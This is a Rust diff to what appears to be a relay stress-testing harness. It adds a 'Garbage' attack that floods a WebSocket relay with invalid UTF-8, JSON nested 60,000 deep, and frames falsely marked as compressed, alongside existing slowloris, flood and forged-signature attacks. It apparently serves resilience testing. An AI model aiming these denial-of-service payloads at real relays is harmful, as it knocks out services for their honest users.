@@ -2,22 +2,24 @@
 
 use std::io::Write;
 use std::net::{SocketAddr, TcpStream};
+use std::process::Command;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
-use anyhow::Result;
-use rustix::process::setpriority_process;
+use anyhow::{Context, Result, ensure};
+use rustix::thread::gettid;
 
 use crate::client::{Crowd, TEXT, Word, frame, greeting};
 use crate::events::Event;
 
-const LOWEST_PRIORITY: i32 = 19;
 const SLOW: usize = 500;
 /// Between two bytes of a greeting.
 const DRIP: Duration = Duration::from_millis(100);
 const SUBSCRIPTIONS: usize = 10_000;
 /// Authors and ids of a giant filter: as many as fit into a frame of 128 KiB.
 const NAMED: usize = 900;
+const LITTERERS: usize = 8;
+const DEPTH: usize = 60_000;
 const FORGERS: usize = 8;
 const FORGED_ON_THE_WAY: usize = 32;
 
@@ -33,12 +35,13 @@ pub enum Kind {
     Bytes,
     /// Eight connections with 32 events each on the way whose signatures are wrong.
     Forgeries,
+    /// Eight connections that send texts that are not UTF-8, JSON 60,000 deep, and compressed frames that nobody agreed to.
+    Garbage,
 }
 
 /// Attacks in turn until told to stop. Answers how many requests, events or connections were tried.
 pub fn attack(address: SocketAddr, kinds: &[Kind], forged: &[Event], stop: &AtomicBool) -> Result<usize> {
-    // Only this thread: elsewhere on a network it would take no time of ours from the relay or from honest clients.
-    setpriority_process(None, LOWEST_PRIORITY)?;
+    step_back()?;
     let mut attacks = kinds.iter().map(|kind| begin(*kind, address, forged)).collect::<Result<Vec<_>>>()?;
     while !stop.load(Ordering::Relaxed) {
         for attack in &mut attacks {
@@ -46,6 +49,16 @@ pub fn attack(address: SocketAddr, kinds: &[Kind], forged: &[Event], stop: &Atom
         }
     }
     Ok(attacks.iter().map(|attack| attack.tries()).sum())
+}
+
+/// Lets this thread run only where nobody else wants to: elsewhere on a network it would take no time of ours from the relay or
+/// from honest clients. The lowest priority is not enough, since Linux lets a thread finish its slice of milliseconds.
+fn step_back() -> Result<()> {
+    let thread = gettid().as_raw_nonzero().to_string();
+    let status =
+        Command::new("chrt").args(["--idle", "--pid", "0", &thread]).status().context("chrt, of util-linux")?;
+    ensure!(status.success(), "chrt: {status}");
+    Ok(())
 }
 
 trait Attack {
@@ -71,6 +84,7 @@ fn begin<'a>(kind: Kind, address: SocketAddr, forged: &'a [Event]) -> Result<Box
             };
             Box::new(Flood::new(address, FORGERS, FORGED_ON_THE_WAY, 1, next)?)
         }
+        Kind::Garbage => Box::new(Flood::new(address, LITTERERS, 1, 1, garbage)?),
     })
 }
 
@@ -88,6 +102,19 @@ fn giant(round: usize) -> Vec<u8> {
     let names = |from: usize| (0..NAMED).map(|n| format!("\"{:064x}\"", from + n)).collect::<Vec<_>>().join(",");
     let (authors, ids) = (names(round * 7), names(round * 13));
     text(&[format!("[\"REQ\",\"g\",{{\"authors\":[{authors}]}},{{\"ids\":[{ids}]}}]").as_bytes()])
+}
+
+fn garbage(round: usize) -> Vec<u8> {
+    match round % 3 {
+        0 => text(&[b"[\"REQ\",\"u\",{\"#t\":[\"", &[0xff; 10_000], b"\"]}]"]),
+        1 => text(&[b"[\"REQ\",\"d\",", &[b'['; DEPTH], &[b']'; DEPTH], b"]"]),
+        _ => {
+            // The bit that says that a frame is compressed (RFC 7692), before what could be a bomb.
+            let mut bomb = text(&[&[0; 60_000]]);
+            bomb[0] |= 0x40;
+            bomb
+        }
+    }
 }
 
 struct Slowloris {
